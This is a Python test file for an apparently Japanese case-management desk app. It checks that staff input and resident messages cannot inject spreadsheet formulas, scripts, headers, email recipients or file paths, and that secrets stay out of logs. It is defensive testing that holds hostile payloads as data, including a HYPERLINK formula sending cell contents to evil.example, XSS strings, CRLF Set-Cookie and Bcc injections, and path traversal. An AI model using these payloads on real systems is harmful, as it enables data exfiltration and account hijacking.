"""What people write to make a page, a file, a header, a log or a reader do something (R30–R33, R42)."""

import csv
import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import httpx
import openpyxl
import pytest
from starlette.types import Receive, Scope, Send

from bot.desk import national_forms
from bot.web.broken import Broken
from bot.web.headers import SecurityHeaders
from tests.desk.conftest import PASSWORD, Browser, Office, joins
from tests.desk.test_sheets import tab
from tests.desk.test_stream import listening

_FORMULA = '=HYPERLINK("http://evil.example?"&A1,"見て")'
_DANGEROUS = re.compile(r"^[=+\-@\t\r＝＋－＠]")
_MARKUP = (
    "<script>alert(1)</script>", "<img src=//evil.example/x onerror=alert(1)>", "[押して](javascript:alert(1))", "![](http://evil.example/p.png)",
    "{{ 7919*7907 }}${7919*7907}<%= 7919*7907 %>", "</textarea><form action=//evil.example>", '" autofocus onfocus=alert(1) x="',
    "\r\nevent: signed-out\r\ndata: x\r\n\r\n",
)  # fmt: skip


def _cells(content: bytes) -> list[str]:
    """Every cell of a book or a table."""
    if not content.startswith(b"PK"):
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        assert not any(b"<f>" in packed.read(name) for name in packed.namelist() if name.startswith("xl/worksheets/"))
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


@pytest.mark.requirement("R33")
async def test_a_formula_written_in_every_field_starts_in_no_file_that_leaves_the_desk(office: Office, sato: Browser) -> None:
    code = office.has_case(_FORMULA, title=_FORMULA)
    await sato.claims(code)
    await sato.opens(tab(code, "household"))
    await sato.posts(tab(code, "household"), name=_FORMULA, relation=_FORMULA, birth=_FORMULA, consent="given", expected_version="0")
    await sato.opens(f"/desk/cases/{code}")
    await sato.posts(f"/desk/cases/{code}/note", text=_FORMULA)
    await sato.opens(tab(code, "history"))
    await sato.posts(tab(code, "history"), on="2026-11-24", at="10:00", method="call", text=_FORMULA)
    await sato.opens("/desk/gaps")
    found = 0
    files = [f"/desk/cases/{code}/forms/{form}/{kind}" for form in national_forms.read().forms for kind in ("csv", "xlsx")]
    for path in (*files, "/desk/figures.csv", "/desk/figures.xlsx", "/desk/gaps.csv", "/desk/knowledge.xlsx"):
        answer = await sato.http.get(path)
        assert answer.status_code == 200, path
        assert answer.headers["content-disposition"].startswith("attachment; filename="), path
        cells = _cells(answer.content)
        found += sum("evil.example" in cell for cell in cells)
        if answer.content.startswith(b"PK"):
            continue  # written as strings, and no cell is a formula: what they begin with runs nothing
        assert [cell for cell in cells if _DANGEROUS.match(cell)] == [], path
    assert found > 0, "the words were nowhere: nothing was tried"


@pytest.mark.requirement("R30", "R32")
@pytest.mark.parametrize("said", _MARKUP)
async def test_words_that_look_like_a_page_are_only_words_on_pages_and_in_streams(office: Office, sato: Browser, said: str) -> None:
    code = office.has_case(said, title=said, rings=True)
    await sato.claims(code)
    await sato.opens(f"/desk/cases/{code}")
    await sato.posts(f"/desk/cases/{code}/note", text=said)
    for path in ("/desk", f"/desk/cases/{code}", tab(code, "sheet"), tab(code, "referrals"), tab(code, "forms/plan"), "/desk/tasks", "/desk/duty"):
        page = await sato.opens(path)
        for wrong in ("<script>alert", "<img src=//", "<form action=//", 'onfocus=alert(1) x=""', 'href="javascript:', "62615533"):
            assert wrong not in page, (path, wrong)
    async with listening(sato, f"/desk/cases/{code}/stream?after=0") as ear:
        await ear.hears("lines")
        await ear.hears("beat")
        assert all(name != "signed-out" and "<script>alert" not in data and "<img src=//" not in data for name, data, _ in ear.events)


@pytest.mark.requirement("R32")
async def test_marks_that_turn_the_writing_are_shown_wherever_words_are(office: Office, sato: Browser) -> None:
    code = office.has_case("\u202efdp.exe を見て", title="\u2066題\u202e")
    await sato.claims(code)
    await sato.posts(f"/desk/cases/{code}/note", text="メモ\u202e")
    for path in ("/desk", f"/desk/cases/{code}", tab(code, "sheet"), "/desk/search?q=題"):
        page = await sato.opens(path)
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", page), path
    assert "［U+202E］" in await sato.opens(f"/desk/cases/{code}")


@pytest.mark.requirement("R42")
async def test_names_with_line_ends_come_into_no_header_and_no_account(office: Office, a_browser) -> None:
    from storage import staff

    token = office.store.transact(lambda rows: staff.invite(rows, role="coordinator", now=office.clock.now()))
    browser: Browser = a_browser()
    await browser.opens("/desk/welcome")
    for name in ("佐藤\r\nSet-Cookie: desk=x", "佐\u2028藤", "佐藤\x1b[2J"):
        await browser.posts("/desk/welcome", token=token, name=name, login="sato", password=PASSWORD, again=PASSWORD)
        assert browser.status == 422, repr(name)
    lead = await joins(a_browser(), "係長", "lead", "lead")
    await lead.opens("/desk/duty")
    for mail in ("a@b.jp\r\nBcc: x@evil.example", "a@b.jp,x@evil.example", "a@b.jp?smtp=evil.example", "a@b.jp&to=x@evil.example", "a b@c.jp"):
        answer = await lead.posts("/desk/duty/addresses", staff_id="", name="夜間", mail=mail, tel="")
        assert answer.status_code == 422, mail


@pytest.mark.requirement("R34")
@pytest.mark.parametrize("form", ["..%2f..%2fx", 'a"%0d%0aX: y', "plan/..%2fplan"])
async def test_the_name_of_a_file_is_ours_whatever_its_address_says(office: Office, sato: Browser, form: str) -> None:
    answer = await sato.http.get(f"/desk/cases/{office.has_case()}/forms/{form}/csv")
    assert answer.status_code == 404
    assert "x" not in answer.headers


@pytest.mark.requirement("R42")
def test_what_libraries_say_of_an_error_reaches_the_log_without_its_words() -> None:
    script = (
        "from bot import logs\nimport logging, structlog\nlogs.set_up()\n"
        "try:\n    raise ValueError('ひみつの言葉 himitsu')\n"
        "except ValueError:\n    logging.getLogger('uvicorn.error').exception('himitsu %s', 'himitsu')\n"
        "logging.getLogger('httpx').warning('https://api.telegram.org/bothimitsu')\n"
        "structlog.get_logger().info('event', conversation='a\\n{\"event\": \"forged\"}')\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True, cwd=Path(__file__).parents[3])
    lines = done.stderr.splitlines()
    assert "himitsu" not in done.stderr + done.stdout
    assert len(lines) == 3, "one event, one line, whatever stands in it"
    assert '"error": "ValueError"' in lines[0]
    assert '"at": ["<string>:5"]' in lines[0]


@pytest.mark.requirement("R31", "R42")
@pytest.mark.parametrize(("path", "accept"), [("/", "text/html"), ("/desk/cases/x", "text/html"), ("/api/v1/cases", "*/*")])
async def test_an_error_of_ours_is_a_page_with_a_number_and_none_of_the_words(office: Office, path: str, accept: str, capsys) -> None:
    async def breaks(scope: Scope, receive: Receive, send: Send) -> None:
        raise ValueError("ひみつの言葉")

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        scope["app"] = office.app
        await SecurityHeaders(Broken(breaks))(scope, receive, send)

    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://127.0.0.1:8000") as browser:
        answer = await browser.get(path, headers={"accept": accept})
    assert answer.status_code == 500
    assert "ひみつ" not in answer.text
    assert "Traceback" not in answer.text
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")
    written = capsys.readouterr()
    assert "ひみつ" not in written.out + written.err


@pytest.mark.requirement("R4", "R50")
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "piece", ["あ", "死にたい", "（", "「」", "「", "http://a.", "080-", "1年1月", "お金がない。", "a\u0301", "👨\u200d", "しにたくないとはいえない"]
)
def test_no_words_however_woven_keep_the_hearing_busy(town, piece: str) -> None:
    words = (piece * 5000)[:5000]
    resident = town.resident_on("telegram")
    for part in (words[:4000], words[4000:]):
        if part.strip():
            resident.says(part)
    assert town.http.get("/healthz").status_code == 200


@pytest.mark.requirement("R6")
async def test_the_same_words_in_a_row_stand_as_one_line_that_says_how_often(office: Office, sato: Browser) -> None:
    code = office.has_case("はじめの言葉")
    for _ in range(12):
        office.resident_says("たすけて")
    office.resident_says("べつの言葉")
    office.resident_says("たすけて")
    page = await sato.opens(f"/desk/cases/{code}")
    assert page.count("同じ文が続けて 12 回") == 1
    assert len(re.findall(r'<p class="line__text">たすけて</p>', page)) == 2
